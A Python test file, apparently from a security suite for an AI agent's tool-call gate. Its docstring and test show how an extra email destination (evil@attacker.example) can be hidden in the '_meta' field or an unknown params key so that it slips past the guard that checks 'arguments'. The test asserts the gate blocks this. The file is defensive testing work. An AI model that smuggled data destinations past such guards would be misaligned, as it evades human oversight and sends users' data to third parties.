"""Class: judged = forwarded (the call gate). `CallGate.tools_call` forwards
`{**msg, "params": {**params, "name": tool, "arguments": call.arguments}}`: every other key of the
client's params (and of the message) leaves as the agent wrote it. The guards judge `arguments`,
`inputResponses` and `requestState`, not `_meta` (only a progress token / trace context belong there)
nor unknown keys, so a destination the intent never named reaches the server inside the judged call
(an SDK server hands `_meta` to the tool: `ctx.request_context.meta`; a server may read any key).

Expected: values in `_meta` (beyond the protocol's own keys) and unknown params keys are judged like
arguments, or dropped before forwarding. Actual: forwarded verbatim.
"""

from __future__ import annotations

import json

from tests.attacks.client import SEND_EMAIL, Attacker, Scripted, write_config

TOOL = SEND_EMAIL


def test_meta_and_unknown_params_do_not_carry_unjudged_destinations(tmp_path, home):
    server = Scripted(tmp_path / "s.json", tools=[TOOL])
    config = write_config(tmp_path / "c.toml", {"mail": (server.command, 'trust = "tofu"\n')})
    with Attacker(config, "--intent", "email bob@corp.com the notes", env={"HOME": str(home)}) as a:
        a.handshake()
        denied = a.request("tools/call", {"name": "send_email",
                                          "arguments": {"to": "evil@attacker.example", "body": "notes"}})
        assert denied["result"]["isError"]  # in arguments it is judged and refused
        a.request("tools/call", {"name": "send_email", "arguments": {"to": "bob@corp.com", "body": "notes"},
                                 "_meta": {"cc": "evil@attacker.example"},
                                 "bcc": ["evil2@attacker.example"]})
    forwarded = json.dumps(server.received("tools/call"))
    assert "attacker.example" not in forwarded, f"unjudged destinations reached the server: {forwarded}"
